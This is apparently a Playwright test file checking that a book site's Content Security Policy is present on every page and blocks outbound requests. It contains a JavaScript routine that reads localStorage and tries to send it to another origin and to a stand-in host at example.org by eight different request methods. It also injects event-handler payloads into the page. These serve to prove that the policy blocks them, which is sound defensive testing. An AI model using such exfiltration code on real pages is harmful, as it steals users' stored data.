"""The Content Security Policy of every built page (scripts/content_security_policy.py):
present where it counts in every file, and in force in a real browser.

The browser tests start a second local server on another port of 127.0.0.1: a different
origin, which the ``visit`` fixture lets through (it cuts off other hosts only), so the
page's own policy is the only thing that can stop a request to it. The server records
every connection and request it gets; none may arrive.
"""

import base64
import hashlib
import http.server
import threading
from html.parser import HTMLParser
from pathlib import Path

import pytest
from playwright.sync_api import expect
from robustness import BAD_INPUTS, INJECTION_FLAG

from .conftest import BUILD

pytestmark = pytest.mark.browser

SINGLEHTML = BUILD.parent / "singlehtml"
CSP = "content-security-policy"
JAVASCRIPT_TYPES = {"", "module", "text/javascript", "application/javascript"}
CHAPTER = "book/chapter_05.html"  # a quiz, a reflection and a timeline
OUTSIDE_HOST = "https://example.org"


def built_pages() -> list[Path]:
    folders = [BUILD, *([SINGLEHTML] if (SINGLEHTML / "index.html").is_file() else [])]
    return [
        path
        for folder in folders
        for path in sorted(folder.rglob("*.html"))
        if "_static" not in path.relative_to(folder).parts
    ]


class PageParts(HTMLParser):
    """The tags of a page in order (head ones marked), its policies, scripts and handlers."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.policies: list[str] = []
        self.inline_scripts: list[str] = []
        self.handlers: list[str] = []
        self._script: dict | None = None

    def handle_starttag(self, tag, attrs):
        attributes = {name: value or "" for name, value in attrs}
        self.tags.append((tag, attributes))
        if tag == "meta" and attributes.get("http-equiv", "").lower() == CSP:
            self.policies.append(attributes["content"])
        self.handlers += [value for name, value in attributes.items() if name.startswith("on")]
        if tag == "script":
            self._script = attributes

    def handle_data(self, data):
        script = self._script
        runs = script is not None and script.get("type", "").strip().lower() in JAVASCRIPT_TYPES
        if runs and "src" not in script:
            self.inline_scripts.append(data)

    def handle_endtag(self, tag):
        if tag == "script":
            self._script = None


def sha256(text: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(text.encode()).digest()).decode() + "'"


def directives(policy: str) -> dict[str, list[str]]:
    return {name: sources for name, *sources in (part.split() for part in policy.split(";"))}


def test_every_page_has_one_policy_ahead_of_every_script_and_stylesheet():
    pages = built_pages()
    assert len(pages) >= 20 and BUILD / "book" / "chapter_05.html" in pages
    for path in pages:
        parts = PageParts()
        parts.feed(path.read_text(encoding="utf-8"))
        assert len(parts.policies) == 1, path
        # Only <html>, <head> and <meta charset> (HTML wants it in the first 1,024 bytes)
        # come before it: a policy covers only what the page loads after it.
        position = next(
            i for i, (tag, a) in enumerate(parts.tags) if a.get("http-equiv", "").lower() == CSP
        )
        before = parts.tags[:position]
        assert all(tag in ("html", "head") or "charset" in a for tag, a in before), path
        policy = directives(parts.policies[0])
        assert policy["default-src"] == ["'self'"], path
        assert policy["connect-src"] == ["'self'"], path
        assert policy["img-src"] == ["'self'", "data:", "blob:"], path
        assert policy["font-src"] == ["'self'", "data:"], path
        assert policy["style-src"] == ["'self'", "'unsafe-inline'"], path
        assert policy["object-src"] == ["'none'"], path
        assert policy["script-src"][:3] == ["'self'", "blob:", "'report-sample'"], path
        assert "'unsafe-inline'" not in policy["script-src"], path
        for script in parts.inline_scripts:
            assert sha256(script) in policy["script-src"], (path, script)
        for handler in parts.handlers:
            assert sha256(handler) in policy["script-src"], (path, handler)
        if parts.handlers:
            assert "'unsafe-hashes'" in policy["script-src"], path


class Recorder(http.server.BaseHTTPRequestHandler):
    """Answers nothing useful and writes down every request it gets."""

    def _record(self):
        self.server.requests.append(self.requestline)
        self.send_error(404)

    do_GET = do_POST = do_HEAD = do_OPTIONS = do_PUT = _record

    def log_message(self, format, *args):
        pass


class RecordingServer(http.server.ThreadingHTTPServer):
    def __init__(self):
        super().__init__(("127.0.0.1", 0), Recorder)
        self.connections = 0
        self.requests: list[str] = []

    def get_request(self):
        # Counted before any request line is read: even a bare connection would show.
        self.connections += 1
        return super().get_request()


@pytest.fixture
def other_origin():
    """A second local server on another port: another origin. Yields the server."""
    server = RecordingServer()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()


# Each way a script could send data out, tried against `origin` (another origin) and, for
# fetch, against a real outside address; each resolves to "sent" or "failed". Failing
# alone proves little (the recording server's 404 fails too): the proof is the reported
# violations and the server that heard nothing.
TRY_EVERY_WAY_OUT = """async ([origin, outside]) => {
  const answer = (promise) =>
    Promise.race([promise, new Promise((resolve) => setTimeout(() => resolve("no answer"), 3000))]);
  const element = (tag, attributes) => answer(new Promise((resolve) => {
    const node = Object.assign(document.createElement(tag), attributes);
    node.onload = () => resolve("sent");
    node.onerror = () => resolve("failed");
    document.head.append(node);
  }));
  const secret = JSON.stringify(localStorage);
  const outcome = {};
  outcome.sendBeacon = navigator.sendBeacon(`${origin}/beacon`, secret) ? "queued" : "failed";
  outcome.fetch = await fetch(`${origin}/fetch`, { method: "POST", body: secret }).then(
    () => "sent", () => "failed");
  outcome.XMLHttpRequest = await answer(new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.open("POST", `${origin}/xhr`);
    request.onload = () => resolve("sent");
    request.onerror = () => resolve("failed");
    try { request.send(secret); } catch (error) { resolve("failed"); }
  }));
  outcome.WebSocket = await answer(new Promise((resolve) => {
    try {
      const socket = new WebSocket(`${origin.replace("http", "ws")}/socket`);
      socket.onopen = () => resolve("sent");
      socket.onerror = () => resolve("failed");
    } catch (error) { resolve("failed"); }
  }));
  outcome.image = await element("img", { src: `${origin}/image.png` });
  outcome.script = await element("script", { src: `${origin}/script.js` });
  outcome.stylesheet = await element("link", { rel: "stylesheet", href: `${origin}/style.css` });
  outcome.font = await new FontFace("outside", `url(${origin}/font.woff2)`).load().then(
    () => "sent", () => "failed");
  outcome.outsideFetch = await fetch(`${outside}/collect`, { method: "POST", body: secret }).then(
    () => "sent", () => "failed");
  return outcome;
}"""
# What each attempt above must be reported under, and the address it asked for.
EXPECTED_VIOLATIONS = {
    "sendBeacon": ("connect-src", "/beacon"),
    "fetch": ("connect-src", "/fetch"),
    "XMLHttpRequest": ("connect-src", "/xhr"),
    "WebSocket": ("connect-src", "/socket"),
    "image": ("img-src", "/image.png"),
    "script": ("script-src-elem", "/script.js"),
    "stylesheet": ("style-src-elem", "/style.css"),
    "font": ("font-src", "/font.woff2"),
    "outsideFetch": ("connect-src", "/collect"),
}


def wait_for_violations(visit, count):
    for _ in range(50):
        if len(visit.violations) >= count:
            return
        visit.page.wait_for_timeout(50)


def test_every_way_out_to_another_origin_is_blocked_and_reported(
    visit, book_url, other_origin, robustness
):
    page = visit.page
    page.goto(f"{book_url}/{CHAPTER}")
    expect(page.locator(".pdc-reflection")).to_be_visible(timeout=20_000)
    origin = f"http://127.0.0.1:{other_origin.server_address[1]}"

    outcome = page.evaluate(TRY_EVERY_WAY_OUT, [origin, OUTSIDE_HOST])

    assert set(outcome) == set(EXPECTED_VIOLATIONS)
    assert {way: result for way, result in outcome.items() if result == "sent"} == {}
    wait_for_violations(visit, len(EXPECTED_VIOLATIONS))
    for way, (directive, path) in EXPECTED_VIOLATIONS.items():
        host = OUTSIDE_HOST if way == "outsideFetch" else origin
        address = f"{host.replace('http', 'ws') if way == 'WebSocket' else host}{path}"
        reported = [v for v in visit.violations if v["blockedURI"] == address]
        assert reported, (way, visit.violations)
        assert reported[0]["effectiveDirective"] == directive, (way, reported)
        assert reported[0]["violatedDirective"] == directive, (way, reported)
    page.wait_for_timeout(100)  # time for a beacon the browser had queued to arrive
    assert other_origin.requests == [] and other_origin.connections == 0
    # Blocked inside the page: not one of them even reached the network layer, where
    # the visit fixture would have seen (and cut off) the one to the outside host.
    assert [url for url in visit.requests if not url.startswith(book_url)] == []
    robustness("every page", "outside connection attempts blocked", len(EXPECTED_VIOLATIONS))


# The bad inputs whose payload is an event handler, put into the page as HTML (as an
# injection would). A <script> put in as HTML never runs anyway; one made with
# createElement would, so the test adds one of those.
HANDLER_PAYLOADS = [bad.value for bad in BAD_INPUTS if " on" in bad.value and "<" in bad.value]


def test_an_injected_inline_script_or_handler_does_not_run(visit, book_url, robustness):
    page = visit.page
    page.goto(f"{book_url}/book/intro.html")
    page.evaluate(
        """(code) => {
            const script = document.createElement("script");
            script.textContent = code;
            document.body.append(script);
        }""",
        f"window.{INJECTION_FLAG} = 'script element';",
    )
    for payload in HANDLER_PAYLOADS:
        page.evaluate("(html) => document.body.insertAdjacentHTML('beforeend', html)", payload)
    wait_for_violations(visit, 1 + len(HANDLER_PAYLOADS))
    page.wait_for_timeout(100)  # an onerror or onload would have run by now
    assert page.evaluate(f"() => window.{INJECTION_FLAG}") is None
    reported = sorted(v["effectiveDirective"] for v in visit.violations)
    assert reported == ["script-src-attr"] * len(HANDLER_PAYLOADS) + ["script-src-elem"]
    assert all(v["blockedURI"] == "inline" for v in visit.violations)
    # 'report-sample': the report quotes the start of what was blocked.
    assert f"window.{INJECTION_FLAG} = 'script element';" in [v["sample"] for v in visit.violations]
    robustness("every page", "injected script blocked", 1 + len(HANDLER_PAYLOADS))


def test_the_widgets_and_the_theme_work_under_the_policy(visit, book_url):
    page = visit.page
    page.goto(f"{book_url}/{CHAPTER}")
    quiz = page.locator(".pdc-quiz")
    expect(quiz).to_be_visible(timeout=20_000)
    question = quiz.locator("fieldset").first
    question.locator("input").first.check()
    question.get_by_role("button", name="Check answer").click()
    expect(question.locator(".pdc-quiz-feedback")).not_to_be_empty()
    reflection = page.locator(".pdc-reflection")
    reflection.get_by_label("Write about the fictional person instead").check()
    reflection.locator("textarea").fill("Kept on this device only.")
    expect(reflection.locator(".pdc-status")).to_have_text("Saved on this device.")
    timeline = page.locator('.pdc-timeline[data-widget-id="chapter-05-my-timeline"]')
    timeline.locator(".pdc-timeline-field-age input").fill("8")
    timeline.locator(".pdc-timeline-field-label input").fill("Learned to swim")
    timeline.locator(".pdc-timeline-field-category select").select_option("achievements")
    timeline.locator(".pdc-timeline-field-feeling select").select_option("2")
    timeline.get_by_role("button", name="Add event", exact=True).click()
    expect(timeline.locator(".pdc-timeline-item")).to_have_count(1)
    # The PNG export draws the timeline from a data: image in the page.
    with page.expect_download() as download:
        timeline.get_by_role("button", name="Download image (PNG)").click()
    assert Path(download.value.path()).read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    # The colour-mode switch (the theme's inline start-up script and its own file).
    before = page.evaluate("() => document.documentElement.dataset.mode")
    page.locator(".theme-switch-button").first.click()
    assert page.evaluate("() => document.documentElement.dataset.mode") != before

    page.reload()
    reflection = page.locator(".pdc-reflection")
    expect(reflection.locator("textarea")).to_have_value("Kept on this device only.")
    expect(page.locator(".pdc-quiz fieldset").first.locator("input").first).to_be_checked()
    expect(timeline.locator(".pdc-timeline-item")).to_have_count(1)
    assert visit.violations == []
    assert visit.errors == []
